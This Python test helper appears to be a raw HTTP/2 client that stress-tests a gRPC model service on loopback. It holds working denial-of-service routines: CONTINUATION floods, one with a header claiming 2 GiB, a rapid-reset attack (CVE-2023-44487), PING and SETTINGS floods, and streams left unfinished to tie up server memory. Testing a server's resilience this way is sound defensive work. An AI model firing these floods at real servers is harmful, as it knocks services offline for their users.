"""A raw HTTP/2 client without manners, for servers on the loopback address that the tests started themselves.

    with Connection(("127.0.0.1", port)) as connection:
        continuation_flood(connection, seconds=5)

Each attack runs until the server closes the connection or its time is over, and returns the bytes that it sent.
RFC 9113 (frames) and RFC 7541 (headers, here without index and Huffman code).
"""

import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MAX_FRAME = 16384
HEALTH = "/grpc.health.v1.Health/Check"
INITIAL_WINDOW_SIZE = 4  # of the settings
CREATE = "/perceptron.v1.ModelService/CreateModel"
LEARN_STREAM = "/perceptron.v1.LearningService/LearnStream"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _string(text):
    raw = text.encode()
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, length = len(raw) - 127, b"\x7f"
    while rest > 127:
        length += bytes([rest & 127 | 128])
        rest >>= 7
    return length + bytes([rest]) + raw


def header(name, value, indexing=b"\x00"):
    return indexing + _string(name) + _string(value)


def call_headers(path, scheme=b"\x86", encoding="identity"):
    """A gRPC request's header block, which leaves nothing in the table."""
    literal = b"".join(header(*one) for one in (("content-type", "application/grpc"), ("te", "trailers"), ("grpc-encoding", encoding)))
    return b"\x83" + scheme + b"\x04" + _string(path) + b"\x01" + _string("localhost") + literal


class Closed(Exception):
    """The server closed the connection."""


class Connection:
    """One connection, after the preface and empty settings. A context manager."""

    def __init__(self, address, preface=True, tls=None, timeout=10, ignore_answers=True, source=None):
        family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
        self.socket = socket.socket(family, socket.SOCK_STREAM)
        self.socket.settimeout(timeout)
        if source is not None:
            self.socket.bind((source, 0))
        self.socket.connect(address)
        if tls is not None:
            context = ssl._create_unverified_context()
            context.set_alpn_protocols(["h2"])
            if tls is not True:
                context.load_cert_chain(*tls)
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        self.sent = 0
        self.ignore_answers = ignore_answers
        self.next_stream = 1
        if preface:
            self.send(PREFACE + frame(SETTINGS))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        """All of it; Closed if the server closed the connection or does not read for the timeout."""
        try:
            self.socket.sendall(data)
        except OSError as error:
            raise Closed(str(error)) from error
        self.sent += len(data)
        if self.ignore_answers:
            self.discard_answers()

    def discard_answers(self):
        """What has arrived; Closed at the end."""
        timeout = self.socket.gettimeout()
        self.socket.settimeout(0)
        try:
            while True:
                if self.socket.recv(1 << 16) == b"":
                    raise Closed("end")
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError as error:
            raise Closed(str(error)) from error
        finally:
            self.socket.settimeout(timeout)

    def open_stream(self, path, flags=END_HEADERS, **headers):
        stream = self.next_stream
        self.next_stream += 2
        self.send(frame(HEADERS, flags, stream, call_headers(path, **headers)))
        return stream

    def ask(self, path, message):
        """A call with this one small message."""
        self.send(frame(DATA, END_STREAM, self.open_stream(path), struct.pack(">BI", 0, len(message)) + message))

    def read_frame(self):
        """(kind, stream, payload)"""
        head = self._read(9)
        payload = self._read(int.from_bytes(head[:3], "big"))
        return head[3], int.from_bytes(head[5:9], "big"), payload

    def _read(self, size):
        data = b""
        while len(data) < size:
            more = self.socket.recv(size - len(data))
            if more == b"":
                raise Closed("end")
            data += more
        return data

    def wait_closed(self, seconds):
        """Whether the server closes the connection within this time."""
        end = time.monotonic() + seconds
        try:
            while time.monotonic() < end:
                self.socket.settimeout(max(0.01, end - time.monotonic()))
                if self.socket.recv(1 << 16) == b"":
                    return True
        except TimeoutError:
            return False
        except OSError:
            return True
        return False


def flood(connection, chunk, seconds, limit=3 << 30):
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end and connection.sent < limit:
            connection.send(chunk)
    except Closed:
        pass
    return connection.sent


def continuation_flood(connection, seconds, limit=3 << 30):
    """A header block without an end, of one literal that says it has 2 GiB."""
    huge = b"\x00\x7f\x80\xff\xff\xff\x07"
    try:
        connection.send(frame(HEADERS, 0, 1, call_headers(HEALTH)[:4] + huge))
    except Closed:
        return connection.sent
    return flood(connection, frame(CONTINUATION, 0, 1, b"x" * MAX_FRAME) * 16, seconds, limit)


def small_continuation_flood(connection, seconds, limit=3 << 30):
    """A header block without an end, of many small headers."""
    one = b"\x00" + _string("x-a") + _string("b" * 100)
    try:
        connection.send(frame(HEADERS, 0, 1, call_headers(HEALTH)))
    except Closed:
        return connection.sent
    return flood(connection, frame(CONTINUATION, 0, 1, one * 150) * 16, seconds, limit)


def rapid_reset(connection, seconds, limit=3 << 30, path=HEALTH):
    """Calls that are reset in the next frame (CVE-2023-44487)."""
    headers = call_headers(path)
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end and connection.sent < limit and connection.next_stream < (1 << 31) - 2000:
            chunk = bytearray()
            for _ in range(500):
                stream = connection.next_stream
                connection.next_stream += 2
                chunk += frame(HEADERS, END_HEADERS, stream, headers)
                chunk += frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
            connection.send(bytes(chunk))
    except Closed:
        pass
    return connection.sent


def ping_flood(connection, seconds, limit=3 << 30):
    return flood(connection, frame(PING, 0, 0, b"12345678") * 1000, seconds, limit)


def settings_flood(connection, seconds, limit=3 << 30):
    setting = struct.pack(">HI", 4, 65535)
    return flood(connection, frame(SETTINGS, 0, 0, setting) * 1000, seconds, limit)


def unfinished_messages(connection, streams, size, path=LEARN_STREAM, message=64 << 20, seconds=20):
    """Opens streams and sends `size` bytes of a message of `message` bytes on each; then nothing more."""
    return send_bodies(connection, streams, struct.pack(">BI", 0, message) + b"\x0a" * (size - 5), path, seconds)


def send_bodies(connection, streams, body, path=LEARN_STREAM, seconds=20, **headers):
    """Opens streams and sends these bytes on each, as the flow control lets it; ends none. Returns the bytes sent. The connection must
    not ignore answers."""
    assert not connection.ignore_answers
    connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
    ids = [connection.open_stream(path, **headers) for _ in range(streams)]
    body = memoryview(body)
    left = {one: len(body) for one in ids}
    windows = {0: 65535, **{one: 65535 for one in ids}}
    initial = 65535
    buffer = b""
    end = time.monotonic() + seconds
    timeout = connection.socket.gettimeout()
    try:
        while any(left.values()) and time.monotonic() < end:
            progress = False
            for one in ids:
                room = min(windows[0], windows[one], left[one], MAX_FRAME)
                if room <= 0:
                    continue
                at = len(body) - left[one]
                connection.send(frame(DATA, 0, one, bytes(body[at:at + room])))
                windows[0] -= room
                windows[one] -= room
                left[one] -= room
                progress = True
            connection.socket.settimeout(0 if progress else 0.2)
            try:
                more = connection.socket.recv(1 << 16)
                if more == b"":
                    break
                buffer += more
            except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
                pass
            connection.socket.settimeout(timeout)
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags, stream = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                payload = buffer[9:9 + length]
                buffer = buffer[9 + length:]
                if kind == WINDOW_UPDATE and stream in windows:
                    windows[stream] += int.from_bytes(payload, "big")
                elif kind == SETTINGS and not flags & ACK:
                    for at in range(0, length, 6):
                        key, value = struct.unpack(">HI", payload[at:at + 6])
                        if key == 4:
                            for one in ids:
                                windows[one] += value - initial
                            initial = value
                    connection.send(frame(SETTINGS, ACK))
                elif kind == PING and not flags & ACK:
                    connection.send(frame(PING, ACK, 0, payload))
                elif kind == RST_STREAM and stream in left or kind == HEADERS and flags & END_STREAM:
                    left[stream] = 0
    except (Closed, OSError):
        pass
    return connection.sent
